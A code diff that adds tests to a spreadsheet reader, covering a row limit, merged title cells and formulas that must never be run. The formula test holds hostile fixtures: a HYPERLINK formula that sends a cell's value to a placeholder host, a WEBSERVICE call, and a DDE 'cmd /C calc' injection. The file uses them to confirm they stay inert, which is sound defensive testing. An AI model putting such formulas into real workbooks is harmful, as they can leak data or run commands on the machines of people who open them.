@@ -4,8 +4,11 @@ import { sheetEnd, sheetPart, sheetStart, workbookParts } from '@/lib/domain/sha
 import { readWorkbook } from './read-workbook';
 
 const words = (text: string) => `<si><t>${text}</t></si>`;
-function aWorkbook(rows: string, shared = ''): Uint8Array {
-  const parts = { ...workbookParts, [sheetPart]: sheetStart + rows + sheetEnd };
+function aWorkbook(rows: string, shared = '', after = ''): Uint8Array {
+  const parts = {
+    ...workbookParts,
+    [sheetPart]: sheetStart + rows + sheetEnd.replace('</sheetData>', `</sheetData>${after}`),
+  };
   const files = Object.entries(parts).map(([name, text]): [string, Uint8Array] => [name, strToU8(text)]);
   const sst = `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${shared}</sst>`;
   const rels = workbookParts['xl/_rels/workbook.xml.rels'] ?? '';
@@ -60,5 +63,36 @@ test('rows and cells that have only a format do not count', async () => {
     [1, '1', ''],
     [2, '', ''],
     [3, '', '1'],
+  ]);
+});
+
+test('a hundred thousand rows are more than a file may have', async () => {
+  const rows = Array.from({ length: 100_000 }, (_, at) => `<row r="${at + 1}">${cell(`A${at + 1}`)}</row>`);
+  expect(await readWorkbook(aWorkbook(rows.join('')))).toBeNull();
+});
+
+test('a formula is what it showed last, and nothing of it is run or looked up', async () => {
+  const formulas = [
+    '<c r="A1" t="str"><f>HYPERLINK("http://x.example/"&amp;B1,"7")</f><v>7</v></c>',
+    '<c r="B1"><f>WEBSERVICE("http://x.example")</f></c>',
+    '<c r="C1" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
+    '<c r="D1" t="str"><f>cmd|\' /C calc\'!A0</f><v>=cmd</v></c>',
+  ];
+  const read = await readWorkbook(aWorkbook(`<row r="1">${formulas.join('')}</row>`));
+  expect(read?.[0]?.fields).toEqual(['7', '', '', '=cmd']);
+});
+
+test('a title over merged cells does not move the cells below it', async () => {
+  const text = (place: string, value: string) => `<c r="${place}" t="inlineStr"><is><t>${value}</t></is></c>`;
+  const rows = [
+    `<row r="1">${text('A1', '출력 결과')}</row>`,
+    `<row r="2">${text('A2', '주문번호')}${text('B2', '운송장번호')}</row>`,
+    `<row r="3">${text('A3', '1')}${text('B3', '2')}</row>`,
+  ];
+  const merged = aWorkbook(rows.join(''), '', '<mergeCells count="1"><mergeCell ref="A1:B1"/></mergeCells>');
+  expect((await readWorkbook(merged))?.map(({ fields }) => fields)).toEqual([
+    ['출력 결과', ''],
+    ['주문번호', '운송장번호'],
+    ['1', '2'],
   ]);
 });
